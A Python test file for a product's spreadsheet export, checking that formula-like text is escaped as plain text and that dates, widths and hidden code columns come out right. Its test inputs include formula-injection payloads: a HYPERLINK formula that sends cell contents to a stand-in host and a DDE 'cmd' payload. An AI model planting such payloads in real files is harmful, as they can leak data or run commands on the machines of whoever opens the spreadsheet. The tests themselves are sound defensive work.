"""Every XLSX the product writes: no cell is a formula, text that looks like one stays text."""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import Workbook, load_workbook

from giamsat.core.spreadsheets import Column, SheetSpec, sheets_bytes, workbook_bytes


def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    sheet.append(['=HYPERLINK("http://x.example/?q="&A2,"bấm")', "+cmd|' /C calc'!A0", 42, -7])
    sheet.append(["@SUM(1+1)", "Nguyễn Văn An", dt.date(2026, 2, 1), "-"])
    other = book.create_sheet("Khác")
    other["B3"] = "=1+1"
    again = load_workbook(io.BytesIO(workbook_bytes(book)))
    cells = [c for ws in again.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert all(c.data_type != "f" for c in cells)
    first = again.worksheets[0]
    assert first["A1"].value.startswith("'=HYPERLINK") and first["B1"].value.startswith("'+cmd")
    assert (first["C1"].value, first["D1"].value) == (42, -7)
    assert first["A2"].value == "'@SUM(1+1)" and first["B2"].value == "Nguyễn Văn An"
    assert again["Khác"]["B3"].value == "'=1+1"


# --- sheet specs: what every human export shares ----------------------------------------------


def _spec_sheet(**extra):
    spec = SheetSpec(
        "Danh sách",
        (
            Column("Mã", is_code=True),
            Column("Tên đơn vị"),
            Column("Ngày", "date"),
            Column("Lúc", "datetime"),
            Column("Số", "number"),
        ),
        [
            (
                "activities.dissemination",
                "Xã Gia Viễn",
                dt.date(2026, 3, 19),
                dt.datetime(2026, 3, 19, 1, 30, tzinfo=dt.UTC),
                3,
            ),
            ("x", '=HYPERLINK("http://evil")', None, None, None),
        ],
        **extra,
    )
    return load_workbook(io.BytesIO(sheets_bytes(spec))).active


def test_sheet_spec_puts_codes_last_and_hidden_under_a_frozen_header():
    sheet = _spec_sheet()
    assert [c.value for c in sheet[1]] == ["Tên đơn vị", "Ngày", "Lúc", "Số", "Mã"]
    assert sheet.column_dimensions["E"].hidden and not sheet.column_dimensions["A"].hidden
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
    assert sheet["E2"].value == "activities.dissemination"


def test_sheet_spec_writes_real_dates_in_vietnam_time_and_fits_widths():
    sheet = _spec_sheet()
    assert (
        sheet["B2"].value == dt.datetime(2026, 3, 19) and sheet["B2"].number_format == "dd/mm/yyyy"
    )
    # 01:30 UTC is 08:30 in Vietnam: Excel has no time zones, people read wall-clock time.
    assert sheet["C2"].value == dt.datetime(2026, 3, 19, 8, 30)
    assert sheet["C2"].number_format == "dd/mm/yyyy hh:mm"
    assert sheet["D2"].value == 3
    assert sheet.column_dimensions["A"].width >= len('=HYPERLINK("http://evil")')
    assert sheet.column_dimensions["D"].width == 8  # a short column: the minimum


def test_sheet_spec_heading_lines_and_neutralised_text():
    sheet = _spec_sheet(heading=("TIÊU ĐỀ", "dòng phụ"))
    assert sheet["A1"].value == "TIÊU ĐỀ" and sheet["A2"].value == "dòng phụ"
    assert sheet["A4"].value == "Tên đơn vị" and sheet.freeze_panes == "A5"
    assert sheet["A6"].value.startswith("'=HYPERLINK") and sheet["A6"].data_type == "s"
